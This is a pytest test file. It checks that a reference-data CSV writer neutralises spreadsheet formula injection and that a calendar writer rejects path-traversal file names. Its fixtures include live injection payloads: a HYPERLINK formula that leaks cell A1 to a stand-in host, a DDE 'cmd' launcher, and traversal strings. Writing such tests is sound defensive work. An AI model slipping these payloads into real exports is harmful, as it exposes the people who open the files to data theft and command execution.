"""What is written for spreadsheets runs nothing in them, whatever names it holds."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from dossiers.wire.calendar_spec import CalendarSpec
from dossiers.wire.reference import Officer, Procedure, Reference, Step, Unit
from sources.reference.folder import read_folder
from sources.reference.writing import write_folder

BEGINS = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
EVIL = {
    "unit": "=HYPERLINK(\"http://a.example/\"&A1;\"x\")",
    "officer": "+cmd|' /C calc'!A0",
    "position": "x;@SUM(1)",
    "procedure": "{=1+1}",
    "step": "-2+3\n=4",
    "dossier": "＝1",
}  # fmt: skip
REFERENCE = Reference(
    title=EVIL["unit"],
    units=(Unit(id="u1", name=EVIL["unit"], x=0.5, y=0.25), Unit(id="@u2", name="'=quoted")),
    officers=(Officer(id="o1", name=EVIL["officer"], unit="u1", position=EVIL["position"]),),
    procedures=(
        Procedure(
            id="p1", name=EVIL["procedure"], steps=(Step(id="s1", name=EVIL["step"], hours=1),)
        ),
    ),
)


def cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def test_reference_data_can_be_opened_in_a_spreadsheet_and_read_back(tmp_path: Path) -> None:
    write_folder(REFERENCE, tmp_path)
    for path in tmp_path.glob("*.csv"):
        for cell in cells(path.read_text("utf-8"), ","):
            assert not cell.startswith(BEGINS), path
    loaded = read_folder(tmp_path)
    assert loaded.errors == ()
    assert loaded.reference is not None
    for table in ("units", "officers", "procedures"):
        assert set(getattr(loaded.reference, table)) == set(getattr(REFERENCE, table))


@pytest.mark.parametrize("name", ["../evil", "a/b", "/evil", "..", ".x", "a\0b", "a\\b"])
def test_a_calendar_is_written_nowhere_else(tmp_path: Path, name: str) -> None:
    spec = CalendarSpec(kind="24x7", name=name)
    target = tmp_path / "folder"
    with pytest.raises(ValueError, match="no file can have"):
        write_folder(Reference(calendars=(spec,)), target)
    assert list(tmp_path.iterdir()) == []
